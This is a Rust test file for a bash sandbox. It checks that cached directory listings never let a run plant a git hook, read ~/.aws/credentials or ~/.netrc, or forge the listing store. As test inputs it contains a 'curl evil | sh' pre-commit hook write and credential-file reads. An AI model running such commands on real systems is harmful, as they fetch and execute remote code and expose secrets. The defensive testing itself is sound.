//! The directory listings a run keeps for the next (`sandbox::facts`): a later run sees every
//! change made since, by anyone (a sandboxed run included), and no run can read or write them.

use std::path::{Path, PathBuf};
use std::time::Duration;

use crate::lab::{Lab, ok, text};

/// The store's file in a lab's home.
fn store(lab: &Lab) -> PathBuf {
    lab.home.join(".local/state/sandbox-bash/facts/listings")
}

/// A lab whose directories are old enough for their listings to be kept (a listing is kept
/// only two seconds after its directory's last change), with the store written by two runs.
fn settled_lab(prepare: impl Fn(&Lab)) -> Lab {
    let lab = Lab::new();
    std::fs::write(lab.home.join("notes.txt"), "NOTES\n").unwrap();
    let git = lab.ws.join(".git");
    std::fs::create_dir_all(git.join("objects")).unwrap();
    std::fs::write(git.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    prepare(&lab);
    std::thread::sleep(Duration::from_millis(2300));
    for _ in 0..2 {
        ok(&lab.run("0467", "true"));
    }
    let kept = std::fs::read(store(&lab)).expect("the first runs keep their listings");
    assert!(kept.len() > 100, "a store with the lab's listings");
    lab
}

fn contains(haystack: &[u8], needle: &Path) -> bool {
    let needle = needle.as_os_str().as_encoded_bytes();
    haystack.windows(needle.len()).any(|w| w == needle)
}

#[test]
fn a_directory_a_run_makes_is_seen_by_the_next_run_in_spite_of_the_kept_listings() {
    let lab = settled_lab(|_| {});
    let git = lab.ws.join(".git");
    assert!(contains(&std::fs::read(store(&lab)).unwrap(), &git), "the repository's listing is kept");
    // Run 1 may make the hooks directory: nothing is in it yet.
    ok(&lab.run_stdin("0467", "mkdir .git/hooks && echo made"));
    assert!(git.join("hooks").is_dir());
    // Run 2 must hold it read-only, as it holds one that was there from the start: the kept
    // listing of .git no longer holds (its change time moved) and is not used.
    let out = lab.run_stdin("0467", "echo 'curl evil | sh' > .git/hooks/pre-commit; echo done");
    let all = format!("{}{}", text(&out.stdout), text(&out.stderr));
    assert!(all.contains("Read-only file system") || all.contains("Permission denied"), "{all}");
    assert!(!git.join("hooks/pre-commit").exists(), "the hook was planted:\n{all}");
    // Positive control: the workspace itself is written.
    ok(&lab.run_stdin("0467", "echo fine > made-here"));
    assert_eq!(std::fs::read_to_string(lab.ws.join("made-here")).unwrap(), "fine\n");
}

#[test]
fn a_credential_that_appears_after_the_listings_were_kept_is_held() {
    let lab = settled_lab(|_| {});
    std::fs::create_dir(lab.home.join(".aws")).unwrap();
    std::fs::write(lab.home.join(".aws/credentials"), "AWS CANARY\n").unwrap();
    std::fs::write(lab.home.join(".netrc"), "NETRC CANARY\n").unwrap();
    let out = lab.run_stdin("0467", "cat ~/.aws/credentials; cat ~/.netrc; cat ~/notes.txt");
    let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
    assert!(!stdout.contains("CANARY"), "a credential was read:\n{stdout}{stderr}");
    assert_eq!(stderr.matches("Permission denied").count(), 2, "{stderr}");
    assert!(stdout.contains("NOTES"), "positive control: the rest of the home is read:\n{stdout}{stderr}");
    // The analysis says so too, before anything runs.
    let explained = lab.command("0467", "cat ~/.netrc").arg("--sandbox-explain").output().unwrap();
    let explained = text(&explained.stdout) + &text(&explained.stderr);
    assert!(explained.contains("credential"), "{explained}");
}

#[test]
fn no_run_reads_or_writes_the_kept_listings() {
    let lab = settled_lab(|_| {});
    let file = store(&lab);
    for mode in ["0467", "0667", "0777"] {
        let program = format!(
            "cat {f} | head -c 8; echo; echo forged > {f}; ls {d}; echo end",
            f = file.display(),
            d = file.parent().unwrap().display()
        );
        let out = lab.run_stdin(mode, &program);
        let all = format!("{}{}", text(&out.stdout), text(&out.stderr));
        assert!(!all.contains("SBLIST"), "mode {mode}: the store was read:\n{all}");
        assert!(!all.contains("listings\n"), "mode {mode}: its directory was listed:\n{all}");
        assert!(all.contains("end"), "mode {mode}: {all}");
        let now = std::fs::read(&file).unwrap();
        assert!(now.starts_with(b"SBLIST"), "mode {mode}: the store was overwritten");
    }
}

#[test]
fn listings_kept_where_a_run_may_write_are_neither_read_nor_written() {
    let lab = Lab::new();
    std::thread::sleep(Duration::from_millis(2300));
    // A state directory in the workspace (and one in scratch): a command could forge the store
    // there for the next start to believe.
    let scratch = tempfile::Builder::new().prefix("sbx-kept-").tempdir_in("/tmp").unwrap();
    for state in [lab.ws.join("state"), scratch.path().join("state")] {
        for _ in 0..2 {
            ok(&lab.command("0467", "true").env("XDG_STATE_HOME", &state).output().unwrap());
        }
        assert!(!state.join("sandbox-bash/facts").exists(), "{}", state.display());
    }
    // Positive control: the same runs with the state directory in the home keep their listings.
    ok(&lab.run("0467", "true"));
    ok(&lab.run("0467", "true"));
    assert!(store(&lab).exists());
}
